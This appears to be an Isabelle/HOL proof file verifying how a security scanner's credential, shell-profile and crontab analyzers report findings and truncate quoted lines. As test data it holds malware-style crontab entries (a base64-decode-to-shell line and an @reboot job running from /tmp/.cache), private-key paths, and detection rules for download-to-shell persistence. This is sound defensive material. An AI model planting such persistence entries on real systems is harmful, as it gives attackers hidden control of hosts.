  "length (filter (\<lambda>f. severity f = INFO) (CredentialAnalyzer_analyze (\<lambda>s. s) three_private_keys)) = 1
   \<and> details (last (CredentialAnalyzer_analyze (\<lambda>s. s) three_private_keys)) =
       Some [(''count'', JNum 3),
             (''paths'', JArr [JStr ''/root/.ssh/id_rsa'', JStr ''/root/.ssh/id_ecdsa'',
                               JStr ''/etc/ssl/private/site.pem''])]"
  using private_keys_one_info_finding [of "\<lambda>s. s" three_private_keys]
  by (simp add: three_private_keys_def nullish_def)

text \<open>Two discovered keys and no other data: one finding.\<close>

theorem two_keys_one_finding_counterexample:
  "length (nullish [] (sshPrivateKeys two_private_keys)) = 2
   \<and> length (CredentialAnalyzer_analyze (\<lambda>s. s) two_private_keys) = 1
   \<and> length (filter (\<lambda>f. severity f = INFO) (CredentialAnalyzer_analyze (\<lambda>s. s) two_private_keys)) = 1"
  unfolding CredentialAnalyzer_analyze_eq
  by (simp add: two_private_keys_def nullish_def ssh_keys_finding_def)


section \<open>Quoted text in descriptions: shell profiles and crontabs\<close>

lemma ShellAnalyzer_analyze_eq:
  "ShellAnalyzer_analyze es = pushed ''SHELL'' shell_finding 0 (nullish [] es)"
  by (simp add: ShellAnalyzer_analyze_def foldl_push)

lemma shell_description:
  "description (shell_finding e fid) =
       ''File '' @ dq @ file_se e @ dq @ '' line '' @ nat_dec (lineNumber e) @
       '' contains a '' @ describePattern (matchedPattern e) @ '' pattern ('' @ dq @
       matchedPattern e @ dq @ ''): '' @ dq @ truncate_text (trim (line_se e)) 150 @ dq @
       ''. Shell profile files run on every login and are a common '' @
       ''persistence mechanism for malware.''"
  by (simp add: shell_finding_def Let_def)

lemma cron_download_description:
  "description (cron_download_finding lbl j l fid) =
       ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
       '') pipes a download command directly to a shell interpreter: '' @ dq @
       truncate_text l 120 @ dq @
       ''. This is the most common malware persistence technique via cron.''"
  by (simp add: cron_download_finding_def)

lemma cron_base64_description:
  "description (cron_base64_finding lbl j l fid) =
       ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
       '') uses base64 decoding: '' @ dq @ truncate_text l 120 @ dq @
       ''. Attackers encode payloads in base64 to evade simple pattern '' @
       ''matching.''"
  by (simp add: cron_base64_finding_def)

lemma cron_line_download_first:
  assumes "trim rl \<noteq> []" "\<not> startsWith (trim rl) ''#''" "\<not> re_assignment (trim rl)"
    "DOWNLOAD_PIPE_RE (trim rl)"
  shows "snd (cron_line lbl i rl (n, fs)) ! length fs =
           cron_download_finding lbl i (trim rl) (nextId ''CRON'' (n + 1))"
  using assms
  by (simp add: cron_line_def Let_def push_pair nth_append split: option.splits)

lemma pushed_append:
  "pushed p mk n (xs @ ys) = pushed p mk n xs @ pushed p mk (n + length xs) ys"
  by (induction xs arbitrary: n) simp_all

lemma cron_line_eq:
  "cron_line lbl i rl (n, fs) =
     (n + length (cron_due lbl i (trim rl)),
      fs @ pushed ''CRON'' (\<lambda>g. g) n (cron_due lbl i (trim rl)))"
  by (simp add: cron_line_def cron_due_def Let_def push_pair split: option.splits)

lemma cron_lines_eq:
  "cron_lines lbl i ls (n, fs) =
     (n + length (cron_due_lines lbl i ls),
      fs @ pushed ''CRON'' (\<lambda>g. g) n (cron_due_lines lbl i ls))"
proof (induction ls arbitrary: i n fs)
  case Nil
  show ?case by (simp add: cron_due_lines_def)
next
  case (Cons x xs)
  have d: "cron_due_lines lbl i (x # xs) = cron_due lbl i (trim x) @ cron_due_lines lbl (Suc i) xs"
    by (simp add: cron_due_lines_def)
  show ?case
    using Cons.IH [of "Suc i"] by (simp add: cron_line_eq d pushed_append add.assoc)
qed

lemma cron_sources_eq:
  "foldl (\<lambda>st src. cron_lines (label src) 0 (split_lines (content src)) st) (n, fs) srcs =
     (n + length (concat (map (\<lambda>src. cron_due_lines (label src) 0 (split_lines (content src))) srcs)),
      fs @ pushed ''CRON'' (\<lambda>g. g) n
             (concat (map (\<lambda>src. cron_due_lines (label src) 0 (split_lines (content src))) srcs)))"
  by (induction srcs arbitrary: n fs) (simp_all add: cron_lines_eq pushed_append add.assoc)

lemma CrontabAnalyzer_analyze_eq:
  "CrontabAnalyzer_analyze d = pushed ''CRON'' (\<lambda>g. g) 0 (cron_due_all d)"
  by (simp add: CrontabAnalyzer_analyze_def cron_sources_eq cron_due_all_def)

lemma pushed_has:
  "x \<in> set xs \<Longrightarrow> \<exists>fid. mk x fid \<in> set (pushed p mk n xs)"
  by (induction xs arbitrary: n) auto

lemma cron_due_lines_mem:
  "(g \<in> set (cron_due_lines lbl 0 ls)) =
     (\<exists>k < length ls. g \<in> set (cron_due lbl k (trim (ls ! k))))"
proof
  assume "g \<in> set (cron_due_lines lbl 0 ls)"
  then obtain k rl where "(k, rl) \<in> set (enumerate 0 ls)" "g \<in> set (cron_due lbl k (trim rl))"
    by (auto simp: cron_due_lines_def)
  then show "\<exists>k < length ls. g \<in> set (cron_due lbl k (trim (ls ! k)))"
    by (auto simp: in_set_enumerate_eq)
next
  assume "\<exists>k < length ls. g \<in> set (cron_due lbl k (trim (ls ! k)))"
  then obtain k where k: "k < length ls" "g \<in> set (cron_due lbl k (trim (ls ! k)))" by blast
  then have "(k, ls ! k) \<in> set (enumerate 0 ls)"
    by (simp add: in_set_enumerate_eq)
  with k show "g \<in> set (cron_due_lines lbl 0 ls)"
    by (force simp: cron_due_lines_def)
qed

lemma cron_due_all_mem:
  "(g \<in> set (cron_due_all d)) =
     (\<exists>src \<in> set (crontab_sources d). \<exists>k < length (split_lines (content src)).
        g \<in> set (cron_due (label src) k (trim (split_lines (content src) ! k))))"
  by (auto simp: cron_due_all_def cron_due_lines_mem)

lemma cron_due_mem:
  "(g \<in> set (cron_due lbl k l)) =
     (l \<noteq> [] \<and> \<not> startsWith l ''#'' \<and> \<not> re_assignment l \<and>
      ((DOWNLOAD_PIPE_RE l \<and> g = cron_download_finding lbl k l)
       \<or> (BASE64_RE l \<and> g = cron_base64_finding lbl k l)
       \<or> (\<exists>m. TMP_EXEC_RE_exec l = Some m \<and> g = cron_tmp_finding lbl k l m)
       \<or> (\<exists>m. HIDDEN_DIR_EXEC_RE_exec l = Some m \<and> TMP_EXEC_RE_exec l = None
              \<and> g = cron_hidden_finding lbl k l m)))"
  by (cases "TMP_EXEC_RE_exec l"; cases "HIDDEN_DIR_EXEC_RE_exec l") (auto simp: cron_due_def)

lemma CrontabAnalyzer_sound:
  assumes "f \<in> set (CrontabAnalyzer_analyze d)"
  shows "\<exists>src \<in> set (crontab_sources d). \<exists>k < length (split_lines (content src)). \<exists>l fid.
           l = trim (split_lines (content src) ! k)
           \<and> l \<noteq> [] \<and> \<not> startsWith l ''#'' \<and> \<not> re_assignment l
           \<and> ((DOWNLOAD_PIPE_RE l \<and> f = cron_download_finding (label src) k l fid)
              \<or> (BASE64_RE l \<and> f = cron_base64_finding (label src) k l fid)
              \<or> (\<exists>m. TMP_EXEC_RE_exec l = Some m \<and> f = cron_tmp_finding (label src) k l m fid)
              \<or> (\<exists>m. HIDDEN_DIR_EXEC_RE_exec l = Some m \<and> TMP_EXEC_RE_exec l = None
                     \<and> f = cron_hidden_finding (label src) k l m fid))"
proof -
  from assms obtain g fid where g: "g \<in> set (cron_due_all d)" and f: "f = g fid"
    unfolding CrontabAnalyzer_analyze_eq by (blast dest: pushed_mem)
  from g obtain src k where s: "src \<in> set (crontab_sources d)"
    and k: "k < length (split_lines (content src))"
    and m: "g \<in> set (cron_due (label src) k (trim (split_lines (content src) ! k)))"
    unfolding cron_due_all_mem by blast
  from m [unfolded cron_due_mem] f s k show ?thesis by blast
qed

lemma CrontabAnalyzer_complete:
  assumes "src \<in> set (crontab_sources d)" "k < length (split_lines (content src))"
    "g \<in> set (cron_due (label src) k (trim (split_lines (content src) ! k)))"
  shows "\<exists>fid. g fid \<in> set (CrontabAnalyzer_analyze d)"
proof -
  from assms have "g \<in> set (cron_due_all d)" unfolding cron_due_all_mem by blast
  from pushed_has [OF this, of "\<lambda>g. g" "''CRON''" 0] show ?thesis
    unfolding CrontabAnalyzer_analyze_eq .
qed

text \<open>
  C8. \<open>truncate(s, max)\<close> keeps a string of at most \<open>max\<close> characters and otherwise
  cuts it at \<open>max\<close> characters and appends "...". The shell analyzer quotes the trimmed
  profile line cut at 150 characters. The crontab analyzer quotes the trimmed crontab line
  cut at 120 characters in its findings about a download piped to a shell and about
  base64 decoding, and the matched path, uncut, in its findings about a temporary or a
  hidden directory. Every finding of the crontab analyzer is one of these four, made for
  a line of a source that is no blank, comment or assignment line and that the finding's
  pattern matches; and every such line has its findings in the output.
\<close>

theorem quoted_line_truncation:
  "truncate_text s mx = (if length s \<le> mx then s else take mx s @ ''...'')
   \<and> (i < length es \<longrightarrow>
        description (ShellAnalyzer_analyze (Some es) ! i) =
            ''File '' @ dq @ file_se (es ! i) @ dq @ '' line '' @
            nat_dec (lineNumber (es ! i)) @ '' contains a '' @
            describePattern (matchedPattern (es ! i)) @ '' pattern ('' @ dq @
            matchedPattern (es ! i) @ dq @ ''): '' @ dq @
            truncate_text (trim (line_se (es ! i))) 150 @ dq @
            ''. Shell profile files run on every login and are a common '' @
            ''persistence mechanism for malware.'')
   \<and> (trim rl \<noteq> [] \<and> \<not> startsWith (trim rl) ''#'' \<and> \<not> re_assignment (trim rl)
        \<and> DOWNLOAD_PIPE_RE (trim rl) \<longrightarrow>
        description (snd (cron_line lbl j rl (n, fs)) ! length fs) =
            ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
            '') pipes a download command directly to a shell interpreter: '' @ dq @
            truncate_text (trim rl) 120 @ dq @
            ''. This is the most common malware persistence technique via cron.'')
   \<and> description (cron_download_finding lbl j q fid) =
            ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
            '') pipes a download command directly to a shell interpreter: '' @ dq @
            truncate_text q 120 @ dq @
            ''. This is the most common malware persistence technique via cron.''
   \<and> description (cron_base64_finding lbl j q fid) =
            ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
            '') uses base64 decoding: '' @ dq @ truncate_text q 120 @ dq @
            ''. Attackers encode payloads in base64 to evade simple pattern '' @
            ''matching.''
   \<and> description (cron_tmp_finding lbl j q p fid) =
            ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
            '') references a path in a temporary directory: '' @ dq @ p @ dq @
            ''. Legitimate cron jobs should not execute from /tmp, /var/tmp, or '' @
            ''/dev/shm.''
   \<and> description (cron_hidden_finding lbl j q p fid) =
            ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
            '') references a hidden directory path: '' @ dq @ p @ dq @
            ''. Malware frequently hides in dot-prefixed directories.''
   \<and> (f \<in> set (CrontabAnalyzer_analyze d) \<longrightarrow>
        (\<exists>src \<in> set (crontab_sources d). \<exists>k < length (split_lines (content src)). \<exists>l fid.
           l = trim (split_lines (content src) ! k)
           \<and> l \<noteq> [] \<and> \<not> startsWith l ''#'' \<and> \<not> re_assignment l
           \<and> ((DOWNLOAD_PIPE_RE l \<and> f = cron_download_finding (label src) k l fid)
              \<or> (BASE64_RE l \<and> f = cron_base64_finding (label src) k l fid)
              \<or> (\<exists>m. TMP_EXEC_RE_exec l = Some m \<and> f = cron_tmp_finding (label src) k l m fid)
              \<or> (\<exists>m. HIDDEN_DIR_EXEC_RE_exec l = Some m \<and> TMP_EXEC_RE_exec l = None
                     \<and> f = cron_hidden_finding (label src) k l m fid))))
   \<and> (src \<in> set (crontab_sources d) \<and> k < length (split_lines (content src))
        \<and> l = trim (split_lines (content src) ! k)
        \<and> l \<noteq> [] \<and> \<not> startsWith l ''#'' \<and> \<not> re_assignment l \<longrightarrow>
        (DOWNLOAD_PIPE_RE l \<longrightarrow>
           (\<exists>fid. cron_download_finding (label src) k l fid \<in> set (CrontabAnalyzer_analyze d)))
        \<and> (BASE64_RE l \<longrightarrow>
             (\<exists>fid. cron_base64_finding (label src) k l fid \<in> set (CrontabAnalyzer_analyze d)))
        \<and> (TMP_EXEC_RE_exec l = Some m \<longrightarrow>
             (\<exists>fid. cron_tmp_finding (label src) k l m fid \<in> set (CrontabAnalyzer_analyze d)))
        \<and> (HIDDEN_DIR_EXEC_RE_exec l = Some m \<and> TMP_EXEC_RE_exec l = None \<longrightarrow>
             (\<exists>fid. cron_hidden_finding (label src) k l m fid
                      \<in> set (CrontabAnalyzer_analyze d))))"
proof -
  have a: "truncate_text s mx = (if length s \<le> mx then s else take mx s @ ''...'')"
    by (simp add: truncate_text_def)
  have b: "i < length es \<longrightarrow>
        description (ShellAnalyzer_analyze (Some es) ! i) =
            ''File '' @ dq @ file_se (es ! i) @ dq @ '' line '' @
            nat_dec (lineNumber (es ! i)) @ '' contains a '' @
            describePattern (matchedPattern (es ! i)) @ '' pattern ('' @ dq @
            matchedPattern (es ! i) @ dq @ ''): '' @ dq @
            truncate_text (trim (line_se (es ! i))) 150 @ dq @
            ''. Shell profile files run on every login and are a common '' @
            ''persistence mechanism for malware.''"
    by (simp add: ShellAnalyzer_analyze_eq nullish_def pushed_nth shell_description)
  have c: "trim rl \<noteq> [] \<and> \<not> startsWith (trim rl) ''#'' \<and> \<not> re_assignment (trim rl)
        \<and> DOWNLOAD_PIPE_RE (trim rl) \<longrightarrow>
        description (snd (cron_line lbl j rl (n, fs)) ! length fs) =
            ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
            '') pipes a download command directly to a shell interpreter: '' @ dq @
            truncate_text (trim rl) 120 @ dq @
            ''. This is the most common malware persistence technique via cron.''"
    by (simp add: cron_line_download_first cron_download_description)
  have e1: "description (cron_download_finding lbl j q fid) =
            ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
            '') pipes a download command directly to a shell interpreter: '' @ dq @
            truncate_text q 120 @ dq @
            ''. This is the most common malware persistence technique via cron.''"
    by (simp add: cron_download_finding_def)
  have e2: "description (cron_base64_finding lbl j q fid) =
            ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
            '') uses base64 decoding: '' @ dq @ truncate_text q 120 @ dq @
            ''. Attackers encode payloads in base64 to evade simple pattern '' @
            ''matching.''"
    by (simp add: cron_base64_finding_def)
  have e3: "description (cron_tmp_finding lbl j q p fid) =
            ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
            '') references a path in a temporary directory: '' @ dq @ p @ dq @
            ''. Legitimate cron jobs should not execute from /tmp, /var/tmp, or '' @
            ''/dev/shm.''"
    by (simp add: cron_tmp_finding_def)
  have e4: "description (cron_hidden_finding lbl j q p fid) =
            ''Entry in '' @ lbl @ '' (line '' @ nat_dec (j + 1) @
            '') references a hidden directory path: '' @ dq @ p @ dq @
            ''. Malware frequently hides in dot-prefixed directories.''"
    by (simp add: cron_hidden_finding_def)
  have snd: "f \<in> set (CrontabAnalyzer_analyze d) \<longrightarrow>
        (\<exists>src \<in> set (crontab_sources d). \<exists>k < length (split_lines (content src)). \<exists>l fid.
           l = trim (split_lines (content src) ! k)
           \<and> l \<noteq> [] \<and> \<not> startsWith l ''#'' \<and> \<not> re_assignment l
           \<and> ((DOWNLOAD_PIPE_RE l \<and> f = cron_download_finding (label src) k l fid)
              \<or> (BASE64_RE l \<and> f = cron_base64_finding (label src) k l fid)
              \<or> (\<exists>m. TMP_EXEC_RE_exec l = Some m \<and> f = cron_tmp_finding (label src) k l m fid)
              \<or> (\<exists>m. HIDDEN_DIR_EXEC_RE_exec l = Some m \<and> TMP_EXEC_RE_exec l = None
                     \<and> f = cron_hidden_finding (label src) k l m fid)))"
    using CrontabAnalyzer_sound [of f d] by blast
  have cmp: "src \<in> set (crontab_sources d) \<and> k < length (split_lines (content src))
        \<and> l = trim (split_lines (content src) ! k)
        \<and> l \<noteq> [] \<and> \<not> startsWith l ''#'' \<and> \<not> re_assignment l \<longrightarrow>
        (DOWNLOAD_PIPE_RE l \<longrightarrow>
           (\<exists>fid. cron_download_finding (label src) k l fid \<in> set (CrontabAnalyzer_analyze d)))
        \<and> (BASE64_RE l \<longrightarrow>
             (\<exists>fid. cron_base64_finding (label src) k l fid \<in> set (CrontabAnalyzer_analyze d)))
        \<and> (TMP_EXEC_RE_exec l = Some m \<longrightarrow>
             (\<exists>fid. cron_tmp_finding (label src) k l m fid \<in> set (CrontabAnalyzer_analyze d)))
        \<and> (HIDDEN_DIR_EXEC_RE_exec l = Some m \<and> TMP_EXEC_RE_exec l = None \<longrightarrow>
             (\<exists>fid. cron_hidden_finding (label src) k l m fid
                      \<in> set (CrontabAnalyzer_analyze d)))"
  proof (intro impI conjI)
    assume h: "src \<in> set (crontab_sources d) \<and> k < length (split_lines (content src))
        \<and> l = trim (split_lines (content src) ! k)
        \<and> l \<noteq> [] \<and> \<not> startsWith l ''#'' \<and> \<not> re_assignment l"
    {
      fix g
      assume "g \<in> set (cron_due (label src) k l)"
      with h have "\<exists>fid. g fid \<in> set (CrontabAnalyzer_analyze d)"
        using CrontabAnalyzer_complete [of src d k g] by blast
    }
    note due = this
    {
      assume "DOWNLOAD_PIPE_RE l"
      with h have "cron_download_finding (label src) k l \<in> set (cron_due (label src) k l)"
        by (auto simp: cron_due_mem)
      then show "\<exists>fid. cron_download_finding (label src) k l fid \<in> set (CrontabAnalyzer_analyze d)"
        by (rule due)
    }
    {
      assume "BASE64_RE l"
      with h have "cron_base64_finding (label src) k l \<in> set (cron_due (label src) k l)"
        by (auto simp: cron_due_mem)
      then show "\<exists>fid. cron_base64_finding (label src) k l fid \<in> set (CrontabAnalyzer_analyze d)"
        by (rule due)
    }
    {
      assume "TMP_EXEC_RE_exec l = Some m"
      with h have "cron_tmp_finding (label src) k l m \<in> set (cron_due (label src) k l)"
        by (auto simp: cron_due_mem)
      then show "\<exists>fid. cron_tmp_finding (label src) k l m fid \<in> set (CrontabAnalyzer_analyze d)"
        by (rule due)
    }
    {
      assume "HIDDEN_DIR_EXEC_RE_exec l = Some m \<and> TMP_EXEC_RE_exec l = None"
      with h have "cron_hidden_finding (label src) k l m \<in> set (cron_due (label src) k l)"
        by (auto simp: cron_due_mem)
      then show "\<exists>fid. cron_hidden_finding (label src) k l m fid
                        \<in> set (CrontabAnalyzer_analyze d)"
        by (rule due)
    }
  qed
  from a b c e1 e2 e3 e4 snd cmp show ?thesis by blast
qed

lemma long_cron_line_facts:
  "trim long_cron_line = long_cron_line"
  "length long_cron_line = 143"
  "long_cron_line \<noteq> []"
  "\<not> startsWith long_cron_line ''#''"
  "\<not> re_assignment long_cron_line"
  "DOWNLOAD_PIPE_RE long_cron_line"
  by code_simp+

lemma long_profile_entry_facts:
  "length (trim (line_se long_profile_entry)) = 197"
  "file_se long_profile_entry = ''/root/.bashrc''"
  "nat_dec (lineNumber long_profile_entry) = ''17''"
  "matchedPattern long_profile_entry = ''curl''"
  "describePattern ''curl'' = ''download tool''"
  by code_simp+


lemma deploy_source_facts:
  "deploy_source \<in> set (crontab_sources deploy_crontab)"
  "label deploy_source = ''crontab (user: deploy)''"
  "length (split_lines (content deploy_source)) = 2"
  "trim (split_lines (content deploy_source) ! 0) = ''0 3 * * * echo aGk= | base64 -d | sh''"
  "trim (split_lines (content deploy_source) ! 1) = ''@reboot /tmp/.cache/kworker --bg''"
  "\<not> startsWith ''0 3 * * * echo aGk= | base64 -d | sh'' ''#''"
  "\<not> re_assignment ''0 3 * * * echo aGk= | base64 -d | sh''"
  "BASE64_RE ''0 3 * * * echo aGk= | base64 -d | sh''"
  "\<not> startsWith ''@reboot /tmp/.cache/kworker --bg'' ''#''"
  "\<not> re_assignment ''@reboot /tmp/.cache/kworker --bg''"
  "TMP_EXEC_RE_exec ''@reboot /tmp/.cache/kworker --bg'' = Some ''/tmp/.cache/kworker''"
  by code_simp+

lemma small_numbers: "nat_dec (0 + 1) = ''1''" "nat_dec (1 + 1) = ''2''"
  by code_simp+

theorem quoted_line_truncation_witness:
  "description (ShellAnalyzer_analyze (Some [long_profile_entry]) ! 0) =
     ''File '' @ dq @ ''/root/.bashrc'' @ dq @ '' line 17 contains a download tool pattern ('' @
     dq @ ''curl'' @ dq @ ''): '' @ dq @
     take 150 (trim (line_se long_profile_entry)) @ ''...'' @ dq @
     ''. Shell profile files run on every login and are a common '' @
     ''persistence mechanism for malware.''
   \<and> description (snd (cron_line ''root crontab'' 0 long_cron_line (0, [])) ! 0) =
       ''Entry in root crontab (line 1) pipes a download command directly to a shell '' @
       ''interpreter: '' @ dq @ take 120 long_cron_line @ ''...'' @ dq @
       ''. This is the most common malware persistence technique via cron.''
   \<and> (\<exists>fid. cron_base64_finding ''crontab (user: deploy)'' 0
               ''0 3 * * * echo aGk= | base64 -d | sh'' fid
             \<in> set (CrontabAnalyzer_analyze deploy_crontab))
   \<and> description (cron_base64_finding ''crontab (user: deploy)'' 0
                    ''0 3 * * * echo aGk= | base64 -d | sh'' ''CRON-001'') =
       ''Entry in crontab (user: deploy) (line 1) uses base64 decoding: '' @ dq @
       ''0 3 * * * echo aGk= | base64 -d | sh'' @ dq @
       ''. Attackers encode payloads in base64 to evade simple pattern matching.''
   \<and> (\<exists>fid. cron_tmp_finding ''crontab (user: deploy)'' 1 ''@reboot /tmp/.cache/kworker --bg''
               ''/tmp/.cache/kworker'' fid
             \<in> set (CrontabAnalyzer_analyze deploy_crontab))
   \<and> description (cron_tmp_finding ''crontab (user: deploy)'' 1
                    ''@reboot /tmp/.cache/kworker --bg'' ''/tmp/.cache/kworker'' ''CRON-002'') =
       ''Entry in crontab (user: deploy) (line 2) references a path in a temporary '' @
       ''directory: '' @ dq @ ''/tmp/.cache/kworker'' @ dq @
       ''. Legitimate cron jobs should not execute from /tmp, /var/tmp, or /dev/shm.''"
proof -
  note w = quoted_line_truncation [where s = long_cron_line and mx = 120 and i = 0
      and es = "[long_profile_entry]" and rl = long_cron_line and lbl = "''root crontab''"
      and j = 0 and n = 0 and fs = "[]" and q = long_cron_line and p = "''/tmp/x''"
      and fid = "''CRON-001''" and f = "sample_finding HIGH" and d = long_cron
      and src = deploy_source and k = 0 and l = long_cron_line and m = "''/tmp/x''"]
  note w0 = quoted_line_truncation [where s = long_cron_line and mx = 120 and i = 0
      and es = "[long_profile_entry]" and rl = long_cron_line
      and lbl = "''crontab (user: deploy)''" and j = 0 and n = 0 and fs = "[]"
      and q = "''0 3 * * * echo aGk= | base64 -d | sh''" and p = "''/tmp/x''"
      and fid = "''CRON-001''" and f = "sample_finding HIGH" and d = deploy_crontab
      and src = deploy_source and k = 0 and l = "''0 3 * * * echo aGk= | base64 -d | sh''"
      and m = "''/tmp/x''"]
  note w1 = quoted_line_truncation [where s = long_cron_line and mx = 120 and i = 0
      and es = "[long_profile_entry]" and rl = long_cron_line
      and lbl = "''crontab (user: deploy)''" and j = 1 and n = 0 and fs = "[]"
      and q = "''@reboot /tmp/.cache/kworker --bg''" and p = "''/tmp/.cache/kworker''"
      and fid = "''CRON-002''" and f = "sample_finding HIGH" and d = deploy_crontab
      and src = deploy_source and k = 1 and l = "''@reboot /tmp/.cache/kworker --bg''"
      and m = "''/tmp/.cache/kworker''"]
  have h: "trim long_cron_line \<noteq> [] \<and> \<not> startsWith (trim long_cron_line) ''#''
        \<and> \<not> re_assignment (trim long_cron_line) \<and> DOWNLOAD_PIPE_RE (trim long_cron_line)"
    by (simp add: long_cron_line_facts)
  have s: "truncate_text (trim (line_se long_profile_entry)) 150
             = take 150 (trim (line_se long_profile_entry)) @ ''...''"
    by (simp add: truncate_text_def long_profile_entry_facts)
  have c: "truncate_text (trim long_cron_line) 120 = take 120 long_cron_line @ ''...''"
    by (simp add: truncate_text_def long_cron_line_facts)
  have t: "truncate_text ''0 3 * * * echo aGk= | base64 -d | sh'' 120
             = ''0 3 * * * echo aGk= | base64 -d | sh''"
    by (simp add: truncate_text_def)
  from w have x: "description (ShellAnalyzer_analyze (Some [long_profile_entry]) ! 0) =
            ''File '' @ dq @ file_se long_profile_entry @ dq @ '' line '' @
            nat_dec (lineNumber long_profile_entry) @ '' contains a '' @
            describePattern (matchedPattern long_profile_entry) @ '' pattern ('' @ dq @
            matchedPattern long_profile_entry @ dq @ ''): '' @ dq @
            truncate_text (trim (line_se long_profile_entry)) 150 @ dq @
            ''. Shell profile files run on every login and are a common '' @
            ''persistence mechanism for malware.''"
    by simp
  from w h have y: "description (snd (cron_line ''root crontab'' 0 long_cron_line (0, [])) ! 0) =
            ''Entry in '' @ ''root crontab'' @ '' (line '' @ nat_dec (0 + 1) @
            '') pipes a download command directly to a shell interpreter: '' @ dq @
            truncate_text (trim long_cron_line) 120 @ dq @
            ''. This is the most common malware persistence technique via cron.''"
    by simp
  have g1: "description (ShellAnalyzer_analyze (Some [long_profile_entry]) ! 0) =
     ''File '' @ dq @ ''/root/.bashrc'' @ dq @ '' line 17 contains a download tool pattern ('' @
     dq @ ''curl'' @ dq @ ''): '' @ dq @
     take 150 (trim (line_se long_profile_entry)) @ ''...'' @ dq @
     ''. Shell profile files run on every login and are a common '' @
     ''persistence mechanism for malware.''"
    unfolding x s long_profile_entry_facts by simp
  have g2: "description (snd (cron_line ''root crontab'' 0 long_cron_line (0, [])) ! 0) =
       ''Entry in root crontab (line 1) pipes a download command directly to a shell '' @
       ''interpreter: '' @ dq @ take 120 long_cron_line @ ''...'' @ dq @
       ''. This is the most common malware persistence technique via cron.''"
    unfolding y c small_numbers by simp
  have h0: "deploy_source \<in> set (crontab_sources deploy_crontab)
        \<and> 0 < length (split_lines (content deploy_source))
        \<and> ''0 3 * * * echo aGk= | base64 -d | sh'' = trim (split_lines (content deploy_source) ! 0)
        \<and> ''0 3 * * * echo aGk= | base64 -d | sh'' \<noteq> []
        \<and> \<not> startsWith ''0 3 * * * echo aGk= | base64 -d | sh'' ''#''
        \<and> \<not> re_assignment ''0 3 * * * echo aGk= | base64 -d | sh''"
    using deploy_source_facts by simp
  have h1: "deploy_source \<in> set (crontab_sources deploy_crontab)
        \<and> 1 < length (split_lines (content deploy_source))
        \<and> ''@reboot /tmp/.cache/kworker --bg'' = trim (split_lines (content deploy_source) ! 1)
        \<and> ''@reboot /tmp/.cache/kworker --bg'' \<noteq> []
        \<and> \<not> startsWith ''@reboot /tmp/.cache/kworker --bg'' ''#''
        \<and> \<not> re_assignment ''@reboot /tmp/.cache/kworker --bg''"
    using deploy_source_facts by simp
  from w0 h0 deploy_source_facts(8)
  have g3: "\<exists>fid. cron_base64_finding ''crontab (user: deploy)'' 0
               ''0 3 * * * echo aGk= | base64 -d | sh'' fid
             \<in> set (CrontabAnalyzer_analyze deploy_crontab)"
    unfolding deploy_source_facts(2) by blast
  from w0 have "description (cron_base64_finding ''crontab (user: deploy)'' 0
                    ''0 3 * * * echo aGk= | base64 -d | sh'' ''CRON-001'') =
            ''Entry in '' @ ''crontab (user: deploy)'' @ '' (line '' @ nat_dec (0 + 1) @
            '') uses base64 decoding: '' @ dq @
            truncate_text ''0 3 * * * echo aGk= | base64 -d | sh'' 120 @ dq @
            ''. Attackers encode payloads in base64 to evade simple pattern '' @
            ''matching.''"
    by blast
  then have g4: "description (cron_base64_finding ''crontab (user: deploy)'' 0
                    ''0 3 * * * echo aGk= | base64 -d | sh'' ''CRON-001'') =
       ''Entry in crontab (user: deploy) (line 1) uses base64 decoding: '' @ dq @
       ''0 3 * * * echo aGk= | base64 -d | sh'' @ dq @
       ''. Attackers encode payloads in base64 to evade simple pattern matching.''"
    unfolding t small_numbers by simp
  from w1 h1 deploy_source_facts(11)
  have g5: "\<exists>fid. cron_tmp_finding ''crontab (user: deploy)'' 1 ''@reboot /tmp/.cache/kworker --bg''
               ''/tmp/.cache/kworker'' fid
             \<in> set (CrontabAnalyzer_analyze deploy_crontab)"
    unfolding deploy_source_facts(2) by blast
  from w1 have "description (cron_tmp_finding ''crontab (user: deploy)'' 1
                    ''@reboot /tmp/.cache/kworker --bg'' ''/tmp/.cache/kworker'' ''CRON-002'') =
            ''Entry in '' @ ''crontab (user: deploy)'' @ '' (line '' @ nat_dec (1 + 1) @
            '') references a path in a temporary directory: '' @ dq @
            ''/tmp/.cache/kworker'' @ dq @
            ''. Legitimate cron jobs should not execute from /tmp, /var/tmp, or '' @
            ''/dev/shm.''"
    by blast
  then have g6: "description (cron_tmp_finding ''crontab (user: deploy)'' 1
                    ''@reboot /tmp/.cache/kworker --bg'' ''/tmp/.cache/kworker'' ''CRON-002'') =
       ''Entry in crontab (user: deploy) (line 2) references a path in a temporary '' @
       ''directory: '' @ dq @ ''/tmp/.cache/kworker'' @ dq @
       ''. Legitimate cron jobs should not execute from /tmp, /var/tmp, or /dev/shm.''"
    unfolding small_numbers by simp
  from g1 g2 g3 g4 g5 g6 show ?thesis by blast
qed

text \<open>A crontab line of 143 characters, shorter than 150, is quoted cut at 120.\<close>

theorem crontab_line_cut_at_120_counterexample:
  "length long_cron_line = 143
   \<and> description (hd (CrontabAnalyzer_analyze long_cron)) =
       ''Entry in root crontab (line 1) pipes a download command directly to a shell '' @
       ''interpreter: '' @ dq @ take 120 long_cron_line @ ''...'' @ dq @
       ''. This is the most common malware persistence technique via cron.''"
  by code_simp

end
